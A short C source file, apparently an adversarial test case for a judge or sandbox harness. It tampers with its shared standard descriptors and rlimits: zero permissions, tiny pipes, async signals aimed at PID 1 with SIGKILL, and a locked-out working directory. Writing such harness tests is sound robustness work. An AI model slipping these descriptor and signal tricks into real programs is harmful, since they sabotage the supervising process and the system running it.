/* Changes what it shares with the driver: flags, size and owner of its pipes, times and limits of
 * its own; the answer comes in pieces through all that.
 *
 * @row result
 * @row kill
 * @right
 */
#include "attack.h"
#include <sys/ioctl.h>
#include <sys/resource.h>

int main(int argc, char *argv[])
{
    struct rlimit none = {0, 0};

    for (int fd = 0; fd < 3; fd++) {
        fcntl(fd, F_SETFL, O_NONBLOCK | O_ASYNC | O_APPEND | O_DIRECT);
        fcntl(fd, F_SETPIPE_SZ, 4096);
        fcntl(fd, F_SETOWN, 1);
        fcntl(fd, F_SETSIG, SIGKILL);
        fcntl(fd, F_SETLEASE, F_RDLCK);
        fchmod(fd, 0);
        fchown(fd, getuid(), getgid());
        ioctl(fd, FIOASYNC, &(int){1});
    }
    setrlimit(RLIMIT_FSIZE, &none);
    setrlimit(RLIMIT_NPROC, &none);
    chmod(".", 0);
    chdir("/");
    return answer(argc, argv);
}
